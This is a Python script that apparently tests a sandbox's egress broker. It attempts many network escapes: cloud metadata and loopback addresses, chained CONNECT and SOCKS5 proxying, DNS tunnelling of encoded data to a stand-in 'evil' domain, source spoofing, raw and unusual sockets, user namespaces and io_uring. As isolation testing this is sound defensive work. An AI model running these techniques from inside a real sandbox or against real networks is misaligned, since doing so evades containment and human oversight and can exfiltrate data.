"""Past the names: addresses in every form, the broker's own doors, other ways to send.

usage: addresses.py < {"allowed": host, "target": host, "address": its IPv4, "address6": its IPv6, "host4": ..., "host6": ...,
"canary": port, "only": [beginnings of what is to be tried, or left out: all]}
Prints {what: "got ..." or "no ..."}; got: bytes came back, or a datagram was answered.
"""
import ctypes
import errno
import json
import os
import socket
import struct
import sys
import time

given = json.load(sys.stdin)
results, times = {}, {}
REQUEST = b"GET / HTTP/1.0\r\nHost: %s\r\n\r\n" % given["target"].encode()


def attack(what):
    def now(function):
        if "only" in given and not what.startswith(tuple(given["only"])):
            return
        begun = time.monotonic()
        try:
            got = function()
            results[what] = f"got {got!r}"[:90] if got else "no: nothing came"
        except (OSError, ValueError) as e:
            results[what] = f"no: {e}"
        times[what] = round((time.monotonic() - begun) * 1000, 1)
    return now


def ask(family, address, port, before=None, data=REQUEST):
    with socket.socket(family) as s:
        s.settimeout(3)
        if before:
            before(s)
        s.connect((address, port))
        s.sendall(data)
        answer = s.recv(4096)
        # A refusal in HTTP is no success.
        return b"" if b" 403 " in answer[:16] or b" 400 " in answer[:16] else answer


def both(what, addresses, port, before=None):
    for a in addresses:
        attack(f"{what} {a} {port}")(lambda a=a: ask(socket.AF_INET6 if ":" in a else socket.AF_INET, a, port, before))


METADATA = ["169.254.169.254", "::ffff:169.254.169.254", "64:ff9b::a9fe:a9fe", "2002:a9fe:a9fe::1", "fd00:ec2::254"]
both("metadata at", METADATA, 80)
both("the target at", [given["address"], given["address6"], "::ffff:" + given["address"], "64:ff9b::" + given["address"]], 80)
both("the host at", [given["host4"], given["host6"], "192.168.77.2", "192.168.77.1", "::ffff:" + given["host4"]], given["canary"])
both("the host's loopback at", ["127.0.0.1", "::1", "127.0.0.2", "0.0.0.0", "::", "::ffff:127.0.0.1", "localhost"], given["canary"])
both("private", ["10.20.30.40", "192.168.99.1", "172.16.5.1", "100.100.1.1", "fdaa:bb::1"], 80)
# What stands for allowed names is nothing by itself.
both("a synthetic address that stands for nothing", ["198.18.77.77", "fd5b:ad::7777"], 80)


@attack("some synthetic address that stands for something, on another port")
def _():
    address = socket.getaddrinfo(given["allowed"], 80, socket.AF_INET)[0][4][0]
    for port in (22, 25, 81, 8080, 3128, 61053):
        try:
            if got := ask(socket.AF_INET, address, port):
                return got
        except OSError:
            pass


@attack("its neighbours, before they were asked for")
def _():
    socket.getaddrinfo(given["allowed"], 80)
    for last in range(1, 60):
        try:
            got = ask(socket.AF_INET, f"198.18.0.{last}", 80)
        except OSError:
            continue
        if b"hello" in got and given["allowed"].encode() not in got:
            return got


# The broker's doors.
for port in (61053, 3128, 53):
    both("the broker's port, directly, at", ["10.0.2.100", "198.18.0.1", "93.184.216.34", "fd00:2::100", "fd5b:ad::1"], port,
         lambda s: None)
both("the broker's listener at", ["127.0.0.1", "::1"], 61053)


@attack("a proxy behind the proxy")
def _():
    for name in (b"127.0.0.1:3128", b"localhost:3128", b"10.0.2.100:3128", b"[::1]:3128", b"198.18.0.1:3128"):
        with socket.create_connection(("127.0.0.1", 3128), 3) as s:
            s.sendall(b"CONNECT " + name + b" HTTP/1.1\r\nHost: " + name + b"\r\n\r\n")
            if b" 200" in s.recv(4096).split(b"\r\n")[0]:
                return name


@attack("SOCKS5 to an address")
def _():
    for packed, kind in ((socket.inet_aton("169.254.169.254"), 1), (socket.inet_aton("127.0.0.1"), 1), (socket.inet_aton(given["address"]), 1),
                         (socket.inet_pton(10, "::ffff:169.254.169.254"), 4), (socket.inet_pton(10, given["address6"]), 4)):
        with socket.create_connection(("127.0.0.1", 3128), 3) as s:
            s.sendall(b"\5\1\0")
            s.recv(2)
            s.sendall(b"\5\1\0" + bytes([kind]) + packed + struct.pack("!H", 80))
            if s.recv(10)[1:2] == b"\0":
                return packed


@attack("SOCKS5: BIND and UDP ASSOCIATE")
def _():
    for command in (2, 3):
        with socket.create_connection(("127.0.0.1", 3128), 3) as s:
            s.sendall(b"\5\1\0")
            s.recv(2)
            s.sendall(b"\5" + bytes([command]) + b"\0\1" + bytes(6))
            if s.recv(10)[1:2] == b"\0":
                return command


# Port 53 is the resolver's, wherever it is asked: not a way through for other bytes.
@attack("other bytes to port 53 over TCP")
def _():
    return ask(socket.AF_INET, given["address"], 53)


@attack("other bytes to port 53 over UDP")
def _():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(1)
        s.sendto(b"not DNS at all, but data", (given["address"], 53))
        answer = s.recv(4096)
        return b"" if answer[3] & 15 else answer  # an error of the resolver's


@attack("an answer of DNS with much in it")
def _():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(1)
        s.sendto(struct.pack("!HHHHHH", 1, 0x8180, 1, 1, 0, 0) + b"\4data\7example\3net\0\0\1\0\1" + b"\xc0\x0c\0\1\0\1\0\0\0\1\0\4abcd", (given["address"], 53))
        answer = s.recv(4096)
        return b"" if answer[3] & 15 else answer


for kind in (16, 10, 12, 33, 65, 255, 252):
    @attack(f"data by a lookup of type {kind}")
    def _(kind=kind):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(1)
            s.sendto(struct.pack("!HHHHHH", 1, 0x100, 1, 0, 0, 0) + b"\x08c2VjcmV0\4evil\7example\3net\0" + struct.pack("!HH", kind, 1), ("8.8.8.8", 53))
            answer = s.recv(4096)
            return answer if struct.unpack_from("!H", answer, 6)[0] else b""


@attack("UDP to the target")
def _():
    for port in (7, 123, 443, 53000):
        for family, address in ((socket.AF_INET, given["address"]), (socket.AF_INET6, given["address6"]), (socket.AF_INET, "8.8.8.8"), (socket.AF_INET, "1.1.1.1")):
            with socket.socket(family, socket.SOCK_DGRAM) as s:
                s.settimeout(0.05)
                try:
                    s.sendto(b"x", (address, port))
                    if got := s.recv(100):
                        return got
                except OSError:
                    pass


@attack("UDP by sendmsg, sendmmsg-like and connected")
def _():
    for how in ("sendmsg", "connect"):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(0.3)
            try:
                if how == "connect":
                    s.connect(("8.8.8.8", 7))
                    s.send(b"x")
                else:
                    s.sendmsg([b"x"], [], 0, ("8.8.8.8", 7))
                return s.recv(100)
            except OSError:
                pass


@attack("UDP to an allowed name's address, another port")
def _():
    address = socket.getaddrinfo(given["udp"], 7, socket.AF_INET, socket.SOCK_DGRAM)[0][4][0]
    for port in (123, 443, 53001):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(0.2)
            try:
                s.sendto(b"x", (address, port))
                if got := s.recv(100):
                    return got
            except OSError:
                pass


@attack("taking an allowed name's address oneself")
def _():
    address = socket.getaddrinfo(given["allowed"], 80, socket.AF_INET)[0][4][0]
    with socket.socket() as listener:
        listener.bind((address, 8000))
        listener.listen()
        # It is the box's own namespace: only if what others send to the name arrives here, something is wrong.
        listener.settimeout(0.3)
        with socket.socket() as s:
            s.settimeout(0.5)
            s.connect((address, 80))
            s.sendall(REQUEST)
            try:
                peer, _ = listener.accept()
                return peer.recv(10)
            except OSError:
                return b""


@attack("source address of somebody else")
def _():
    return ask(socket.AF_INET, given["address"], 80, lambda s: s.bind((given["host4"], 0)))


@attack("bound to a device")
def _():
    return ask(socket.AF_INET, given["address"], 80, lambda s: s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"lo\0"))


@attack("freebind")
def _():
    def before(s):
        s.setsockopt(socket.IPPROTO_IP, 15, 1)
        s.bind(("93.184.216.99", 0))
    return ask(socket.AF_INET, given["address"], 80, before)


@attack("loose source route")
def _():
    return ask(socket.AF_INET, given["address"], 80,
               lambda s: s.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, b"\x83\x07\x04" + socket.inet_aton("10.0.2.100") + b"\0"))


@attack("multicast and broadcast")
def _():
    for address in ("224.0.0.251", "255.255.255.255", "239.1.1.1"):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(0.1)
            try:
                s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
                s.sendto(b"x", (address, 5353))
                return s.recv(10)
            except OSError:
                pass


for family, kind, protocol, what in ((16, 3, 12, "netfilter netlink"), (17, 3, 0x300, "packet"), (40, 1, 0, "vsock"), (38, 5, 0, "alg"), (2, 3, 1, "raw ICMP"),
                                     (10, 3, 58, "raw ICMPv6"), (2, 3, 255, "raw IP"), (2, 1, 132, "SCTP"), (2, 1, 262, "MPTCP"), (44, 3, 0, "XDP"), (30, 1, 0, "TIPC")):
    @attack(f"a socket of another kind: {what}")
    def _(family=family, kind=kind, protocol=protocol):
        s = socket.socket(family, kind, protocol)
        if protocol == 262:  # harmless as such: it is TCP, and must meet the same rules
            s.settimeout(2)
            s.connect((given["address"], 80))
            s.sendall(REQUEST)
            return s.recv(100)
        return str(s)


@attack("a ring (io_uring)")
def _():
    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.syscall(425, 4, ctypes.create_string_buffer(120))
    if fd < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return "a ring"


@attack("a user namespace, and in it the rules gone")
def _():
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.unshare(0x10000000 | 0x40000000) != 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return "a namespace"


@attack("processes to take descriptors from")
def _():
    mine = os.readlink("/proc/self/ns/net")
    for pid in filter(str.isdigit, os.listdir("/proc")):
        with open(f"/proc/{pid}/comm") as f:
            name = f.read().strip()
        if "egress" in name or pid == "1" and name not in ("init", "pale-init") and False:
            return name
    return "" if mine else "?"


@attack("sockets of others in a descriptor's table")
def _():
    for fd in range(3, 64):
        try:
            if os.readlink(f"/proc/self/fd/{fd}").startswith("socket:"):
                return fd
        except OSError:
            pass


print(json.dumps({"results": results, "ms": times}))
